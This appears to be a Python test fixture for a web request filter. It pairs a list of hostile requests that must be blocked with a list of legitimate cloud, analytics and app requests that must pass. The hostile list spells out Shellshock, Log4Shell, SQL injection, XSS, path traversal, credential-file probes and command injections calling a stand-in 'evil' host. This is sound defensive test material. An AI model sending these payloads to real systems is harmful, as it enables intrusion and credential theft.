"""Requests that have to be refused on every site, and requests of real clients that must never be."""

SHELLSHOCK = {"User-Agent": "() { :; }; /bin/bash -c id"}

HOSTILE = [(method, path, headers) for method, path, headers in [
    ("TRACE", "/", None), ("TRACK", "/", None), ("DEBUG", "/", None), ("CONNECT", "/", None),
    *(("GET", path, None) for path in [
        "/../../etc/passwd", "/a/../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/a/..%2f..%2fetc/passwd",
        "/a/%252e%252e%252fetc/passwd", "/a/..%5c..%5cwindows", "/a/..;/manager", "/a%00.php", "/a%0d%0aX: y",
        "/.env", "/.env.local", "/.git/config", "/a/.git/HEAD", "/.svn/entries", "/.htpasswd", "/a/.DS_Store",
        "/.aws/credentials", "/.ssh/id_rsa", "/.well-known/../.env", "//.env",
        "/wp-login.php", "/wp-admin/", "/wp-content/plugins/x.php", "/xmlrpc.php", "/phpmyadmin/", "/PMA/index.php",
        "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/_ignition/execute-solution", "/adminer.php",
        "/?id=1+union+select+1,2", "/?id=1%20UNION%20ALL%20SELECT%20NULL", "/?id=1/**/union/**/select/**/1",
        "/?id=1'+or+'1'='1", "/?id=1%27%20or%201%3d1--", "/?id=1;drop+table+users", "/?id=sleep(5)",
        "/?id=1+and+benchmark(5,1)", "/?t=information_schema.tables", "/?id=1+into+outfile+'/tmp/x'",
        "/?q=<script>alert(1)</script>", "/?q=%3Cscript%3E", "/?q=%3csvg/onload=alert(1)", "/?q=%22%20onerror=alert(1)",
        "/?u=javascript:alert(1)", "/?q=<iframe src=x>".replace(" ", "+"),
        "/?file=../../../../etc/passwd", "/?file=..%2f..%2fetc%2fpasswd", "/?file=%252e%252e%252f%252e%252e%252fx",
        "/?file=/etc/passwd", "/?file=file:///etc/passwd", "/?f=php://input", "/?f=phar://x", "/?a=%00",
        "/?x=${jndi:ldap://evil/a}", "/?x=%24%7Bjndi%3Aldap", "/?x=<?php+phpinfo()", "/?-d+allow_url_include=1",
        "/?cmd=;wget+http://evil/x", "/?cmd=%7Ccurl%20evil", "/?cmd=%60python%20-c",
    ]),
    ("GET", "/", SHELLSHOCK),
    ("GET", "/", {"User-Agent": "sqlmap/1.7"}), ("GET", "/", {"User-Agent": "Mozilla/5.0 (Nikto/2.5)"}),
    ("GET", "/", {"User-Agent": "${jndi:ldap://evil/a}"}),
]]

DAV = "/remote.php/dav/files/owner"

HONEST = [
    *(("cloud", method, f"{DAV}/Documents/notes.txt") for method in [
        "GET", "HEAD", "PUT", "DELETE", "OPTIONS", "PROPFIND", "PROPPATCH", "MKCOL", "COPY", "MOVE", "LOCK", "UNLOCK",
        "REPORT", "SEARCH",
    ]),
    *(("cloud", "PUT", f"{DAV}/{name}") for name in [
        ".hidden", "code/.git/config", "code/.env", ".htaccess", "a%20b%20%26%20c.txt", "%E2%82%AC%20bill..pdf", "..notes",
        "what..txt", "100%25%20sure", "union%20select%20songs.mp3", "it's%20or%20isn't.txt", "wp-login.php",
        "photo%20(1).jpg", "drop%20table.ods", "%3Cscript%3E.txt", "r%C3%A9sum%C3%A9.docx", "a;b.txt", "etc/passwd",
    ]),
    *(("cloud", "GET", path) for path in [
        "/", "/login", "/index.php/login?redirect_url=/apps/files/?dir%3D/a&user=owner", "/status.php", "/apps/files/",
        "/apps/files/?dir=/Photos/2026&openfile=12", "/index.php/apps/files/?dir=/it's%20mine", "/s/Ab3dEf7GhI",
        "/ocs/v2.php/search/providers/files/search?term=rock+'n'+roll+or+jazz&from=/apps/files",
        "/ocs/v2.php/search/providers/files/search?term=select+a+union+of+two", "/ocs/v1.php/cloud/capabilities?format=json",
        "/ocs/v2.php/search/providers/mail/search?term=JavaScript%3A+The+Good+Parts",
        "/ocs/v2.php/search/providers/notes/search?term=%22cats%22+and+%22dogs%22", "/core/a.js?v=1a2b3c-0",
        "/index.php/core/preview?fileId=9&x=32&y=32&forceIcon=0", "/apps/theming/css/default.css?plain=1",
        "/remote.php/webdav/", "/.well-known/carddav", "/.well-known/caldav", "/.well-known/webfinger?resource=acct:a@b",
        "/.well-known/nodeinfo", "/robots.txt", "/index.php/csrftoken", "/apps/calendar/dayGridMonth/now",
        "/public.php/dav/files/Ab3dEf7GhI/?accept=zip", "/index.php/avatar/owner/64", "/favicon.ico",
    ]),
    ("cloud", "POST", "/login/v2"), ("cloud", "POST", "/ocs/v2.php/apps/notifications/api/v2/push"),
    ("cloud", "MKCALENDAR", "/remote.php/dav/calendars/owner/home/"), ("cloud", "ACL", "/remote.php/dav/calendars/owner/"),
    ("cloud", "MKCOL", "/remote.php/dav/uploads/owner/web-file-upload-1/"),
    ("cloud", "PUT", "/remote.php/dav/uploads/owner/web-file-upload-1/0001"),
    ("cloud", "MOVE", "/remote.php/dav/uploads/owner/web-file-upload-1/.file"),
    *(("analytics", "GET", f"/matomo.php?idsite=1&rec=1&{arguments}") for arguments in [
        "action_name=SQL%3A%20UNION%20SELECT%20explained&url=https%3A%2F%2Fexample.com%2F%3Fq%3D1%2Bunion%2Bselect",
        "action_name=%3Cscript%3E%20and%20%3Ciframe%3E&urlref=https%3A%2F%2Fx%2F..%2F..%2Fy", "link=javascript:void(0)",
        "url=https://example.com/etc/passwd?file=../../etc/passwd", "_cvar=%7B%221%22%3A%5B%22a'%20or%201=1%22%5D%7D",
        "search=information_schema.tables&search_cat=a%7Cb", "e_c=a&e_a=b&e_n=line%0Aline", "res=1920x1080&h=12&m=0",
    ]),
    ("analytics", "POST", "/matomo.php"), ("analytics", "OPTIONS", "/matomo.php"), ("analytics", "GET", "/piwik.php"),
    *(("analytics", "GET", path) for path in [
        "/", "/index.php?module=CoreHome&action=index&idSite=1&period=day&date=yesterday", "/matomo.js", "/js/index.php",
        "/index.php?module=API&method=VisitsSummary.get&segment=pageUrl%3D@union;country%3D%3Dde%2Cbrowser!%3DFF",
        "/index.php?module=API&method=API.getBulkRequest&urls%5B0%5D=method%3DLive.getCounters%26idSite%3D1",
        "/index.php?module=Proxy&action=getCss&cb=0123abcd", "/plugins/a/b.css?cb=1",
        "/index.php?module=Widgetize&action=iframe&filter_pattern=a%7Cb&columns=nb_visits,nb_actions",
    ]),
    *(("app", "GET", path) for path in [
        "/", "/search?q=it's+5+o'clock+and+6+more", "/search?q=orders+and+sales+=+profit", "/.well-known/security.txt",
        "/search?q=scripts+in+bash", "/a/b..c/d", "/style.css?v=1.2..3", "/?next=/a/b&sort=-date&page[]=2",
        "/?q=how+do+i+drop+a+table", "/?q=base64+images+on+load", "/?return=../up", "/?q=%3C3+you",
    ]),
]
